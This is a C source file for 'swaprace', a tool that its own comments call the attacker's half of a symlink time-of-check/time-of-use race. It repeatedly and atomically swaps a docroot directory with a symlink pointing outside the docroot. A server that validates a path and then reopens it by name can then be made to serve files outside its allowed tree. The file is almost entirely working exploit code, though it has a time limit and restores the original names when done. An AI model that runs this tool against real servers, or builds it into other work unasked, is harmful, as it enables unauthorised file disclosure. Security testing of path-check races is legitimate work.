/* swaprace — the attacker's half of the symlink race (TOCTOU).
 *
 *   swaprace -t MILLISECONDS DIR LINK
 *
 * DIR is a directory inside a docroot, LINK a symlink (beside it) to a
 * directory outside.  For MILLISECONDS, swaps the two names as fast as it
 * can with renameat2(RENAME_EXCHANGE): one atomic step, so at every instant
 * the name DIR is either the real directory or the symlink out.  A server
 * that checks a path and then opens it by name again (realpath() + open())
 * can check the directory and open through the symlink.  Meanwhile a client
 * fetches DIR/file and counts what came back.
 *
 * At the end the names are swapped back if need be, so DIR is the directory
 * again, and "swaps N" is printed.  Exits 0, 1 on a failed rename, 2 for bad
 * usage.  Libc and one Linux system call only.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include <linux/fs.h> /* RENAME_EXCHANGE */

static long long now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

/* glibc 2.36 has renameat2(), but only with _GNU_SOURCE and <stdio.h>; the
 * system call is as short and says exactly what happens. */
static int exchange(const char *a, const char *b)
{
    return (int)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

int main(int argc, char **argv)
{
    if (argc != 5 || strcmp(argv[1], "-t") != 0) {
        fprintf(stderr, "usage: swaprace -t MILLISECONDS DIR LINK\n");
        return 2;
    }
    long ms = strtol(argv[2], NULL, 10);
    if (ms <= 0 || ms > 60000) {
        fprintf(stderr, "swaprace: -t must be 1..60000 ms\n");
        return 2;
    }
    const char *dir = argv[3], *link = argv[4];
    long long deadline = now_ms() + ms;
    long swaps = 0;
    while (now_ms() < deadline) {
        if (exchange(dir, link) < 0) {
            perror("swaprace: renameat2");
            return 1;
        }
        swaps++;
    }
    /* An odd number of swaps left the symlink under DIR's name. */
    struct stat st;
    if (lstat(dir, &st) == 0 && S_ISLNK(st.st_mode) && exchange(dir, link) < 0) {
        perror("swaprace: renameat2");
        return 1;
    }
    printf("swaps %ld\n", swaps);
    return 0;
}
